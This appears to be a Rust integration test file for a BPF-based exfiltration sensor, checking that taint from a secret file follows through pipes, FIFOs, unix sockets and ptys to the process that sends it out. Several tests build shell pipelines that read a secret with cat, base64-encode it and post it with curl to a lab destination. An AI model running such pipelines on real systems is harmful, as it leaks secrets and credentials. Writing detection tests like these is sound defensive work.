//! Data written by a tainted process into a pipe, a FIFO or a unix socket taints the process
//! that reads it; the alert names the secret and the process that opened it.

use std::ffi::CString;
use std::io;
use std::net::SocketAddr;
use std::os::unix::ffi::OsStrExt;
use std::time::Duration;

use anyhow::{Context, Result};
use integration_tests::host_tools::{self, quoted};
use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;

/// How long the unix-socket receiver waits before accepting: the sender, started meanwhile,
/// has connected and written by then (it only orders the two; nothing is asserted on it).
const ACCEPT_DELAY: Duration = Duration::from_millis(300);

/// The alert names the secret, `origin` as its reader and a `via` of `kind`.
fn assert_came_through(alert: &Value, lab: &Lab, origin: Option<u32>, kind: &str) {
    assert_eq!(alert::file_path(alert), lab.secret().to_str(), "{alert:#}");
    if let Some(origin) = origin {
        assert_eq!(alert::origin_pid(alert), Some(origin), "{alert:#}");
    }
    assert_eq!(alert::via_kind(alert), Some(kind), "{alert:#}");
    // A pipe is named by its inode; a socket's identity is a kernel address, never printed.
    let inode = alert.pointer("/vigie/via/inode");
    if kind == "unix-socket" {
        assert!(inode.is_none(), "no kernel address in the output: {alert:#}");
    } else {
        assert!(inode.is_some(), "the {kind}'s inode: {alert:#}");
    }
}

/// Runs `head | curl --data-binary @- DEST` in a shell and returns curl's alert.
fn piped_into_curl(sensor: &Sensor, head: &str, dest: SocketAddr) -> Result<Value> {
    let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
    host_tools::sh(&format!("{head} | {curl}"))?;
    let by_curl = |line: &Value| {
        alert::is_exfiltration_to(dest)(line)
            && host_tools::is_program(alert::process_executable(line), "curl")
    };
    sensor.expect(by_curl, ALERT_TIMEOUT)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn shell_pipeline_from_cat_through_base64_to_curl_is_reported_on_curl() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    let dest = lab.remote().tcp_v4();
    let alert = piped_into_curl(&sensor, &format!("cat {} | base64", quoted(lab.secret())), dest)?;
    assert_came_through(&alert, &lab, None, "pipe");
    assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
    let args = alert.pointer("/vigie/origin/args").and_then(Value::as_array);
    let secret = lab.secret().to_str();
    assert!(args.is_some_and(|a| a.iter().any(|arg| arg.as_str() == secret)), "cat's args: {alert:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn fifo_reader_is_tainted_by_the_writer() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let fifo = lab.dir().join("drop-box");
    make_fifo(&fifo)?;
    let sensor = lab.sensor()?;

    // Each side's open blocks until the other's: no ordering to arrange.
    let reader = lab.actor().read(&fifo).tcp(lab.remote().tcp_v4()).spawn()?;
    let writer = lab.actor().read(lab.secret()).write_to(&fifo).run()?;
    let reader = reader.finish()?;

    let alert = sensor.expect(alert::is_exfiltration_by(reader.pid), ALERT_TIMEOUT)?;
    assert_came_through(&alert, &lab, Some(writer.pid), "pipe");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn unix_socket_peer_is_tainted_by_the_sender() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let socket = lab.dir().join("relay.sock");
    let sensor = lab.sensor()?;

    // Two unrelated processes: neither is the other's ancestor. The receiver accepts late, so
    // the secret is written while the connection is not yet accepted: the peer socket has no
    // file of its own then, and the taint must still reach whoever accepts it.
    let receiver = lab
        .actor()
        .unix_listen(&socket)
        .sleep(ACCEPT_DELAY)
        .unix_accept()
        .tcp(lab.remote().tcp_v4())
        .spawn()?;
    let sender = lab.actor().read(lab.secret()).unix_send(&socket).run()?;
    let receiver = receiver.finish()?;

    let alert = sensor.expect(alert::is_exfiltration_by(receiver.pid), ALERT_TIMEOUT)?;
    assert_came_through(&alert, &lab, Some(sender.pid), "unix-socket");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn secret_shown_in_a_pty_taints_the_master_side_reader() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    let dest = lab.remote().tcp_v4();
    // `cat` writes into the pty's slave side; `script` reads the master side (as an SSH server
    // or a reverse shell would) and hands it on through a pipe to `curl`.
    let shown = format!("script -qfc 'cat {}' /dev/null < /dev/null", quoted(lab.secret()));
    let alert = piped_into_curl(&sensor, &shown, dest)?;
    assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
    let script_read = sensor.lines_matching(|line| {
        alert::via_kind(line) == Some("pty")
            && host_tools::is_program(alert::process_executable(line), "script")
    });
    assert!(!script_read.is_empty(), "script took it in from the pty: {:#?}", sensor.lines());
    Ok(())
}

fn make_fifo(path: &std::path::Path) -> Result<()> {
    let c_path = CString::new(path.as_os_str().as_bytes())?;
    // SAFETY: a valid NUL-terminated path.
    if unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) } != 0 {
        return Err(io::Error::last_os_error()).with_context(|| format!("mkfifo {}", path.display()));
    }
    Ok(())
}
